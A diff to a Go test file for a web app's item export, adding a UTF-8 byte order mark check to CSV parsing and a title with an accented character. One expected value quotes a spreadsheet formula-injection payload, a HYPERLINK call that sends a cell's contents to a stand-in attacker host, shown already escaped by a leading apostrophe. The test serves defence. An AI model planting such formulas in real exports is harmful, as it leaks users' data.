@@ -697,7 +697,7 @@ func TestExport(t *testing.T) {
 	srv := newServer(t, newEnv(t), app.Config{})
 	alice := user(t, srv, "alice")
 	bob := user(t, srv, "bob")
-	for _, title := range []string{"one", "two, with \"quotes\"", "three"} {
+	for _, title := range []string{"one", "two, with \"quotes\"", "three, café"} {
 		alice.createItem(title, "body of "+title+"\nline 2")
 	}
 	theirs := bob.createItem("bob's", "not alice's")
@@ -717,7 +717,7 @@ func TestExport(t *testing.T) {
 	for _, it := range items {
 		titles = append(titles, it.Title)
 	}
-	if want := []string{"one", "two, with \"quotes\"", "three"}; !slices.Equal(titles, want) {
+	if want := []string{"one", "two, with \"quotes\"", "three, café"}; !slices.Equal(titles, want) {
 		t.Errorf("JSON export titles = %q, want %q", titles, want)
 	}
 
@@ -725,11 +725,11 @@ func TestExport(t *testing.T) {
 	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
 		t.Fatalf("CSV export: status %d, Content-Type %q", r.status, r.header.Get("Content-Type"))
 	}
-	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	rows, err := csvRows(r.body)
 	if err != nil {
 		t.Fatalf("CSV export does not parse: %v", err)
 	}
-	if len(rows) != 4 || rows[0][1] != "title" || rows[2][1] != "two, with \"quotes\"" || rows[2][2] != "body of two, with \"quotes\"\nline 2" {
+	if len(rows) != 4 || rows[0][0] != "id" || rows[0][1] != "title" || rows[2][1] != "two, with \"quotes\"" || rows[2][2] != "body of two, with \"quotes\"\nline 2" || rows[3][1] != "three, café" {
 		t.Errorf("CSV export rows = %q", rows)
 	}
 	if r := alice.submit("/export", "/export", url.Values{"format": {"xml"}}); r.status != http.StatusBadRequest {
@@ -738,6 +738,16 @@ func TestExport(t *testing.T) {
 	if act := alice.get("/activity"); strings.Count(act.body, "Items exported") != 2 {
 		t.Errorf("activity log shows %d exports, want 2", strings.Count(act.body, "Items exported"))
 	}
+}
+
+// csvRows reads a CSV export, which starts with a UTF-8 byte order mark,
+// so that a spreadsheet opening it reads its text as UTF-8.
+func csvRows(body string) ([][]string, error) {
+	rest, ok := strings.CutPrefix(body, "\ufeff")
+	if !ok {
+		return nil, fmt.Errorf("the CSV does not start with a UTF-8 byte order mark: %.20q", body)
+	}
+	return csv.NewReader(strings.NewReader(rest)).ReadAll()
 }
 
 // TestExport_CSVFormulas: in the CSV, a title or text that a spreadsheet
@@ -779,7 +789,7 @@ func TestExport_CSVFormulas(t *testing.T) {
 		}
 	}
 	r := alice.submit("/export", "/export", url.Values{"format": {"csv"}})
-	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	rows, err := csvRows(r.body)
 	if err != nil || len(rows) != len(cells)+1 {
 		t.Fatalf("CSV export: %d rows, %v:\n%s", len(rows), err, r.body)
 	}
@@ -830,7 +840,7 @@ func TestExport_CSVOtherSeparators(t *testing.T) {
 	}
 	// Read with commas, each cell is the text with an apostrophe before
 	// every such start.
-	rows, err := csv.NewReader(strings.NewReader(r.body)).ReadAll()
+	rows, err := csvRows(r.body)
 	wantTitle := `Notes;'=HYPERLINK("https://evil.example/?"&A1;"x")`
 	wantBody := "milk\n'- eggs\n'=1+1;'@SUM(1)\t'+2;;'-3"
 	if err != nil || len(rows) != 2 || rows[1][1] != wantTitle || rows[1][2] != wantBody {
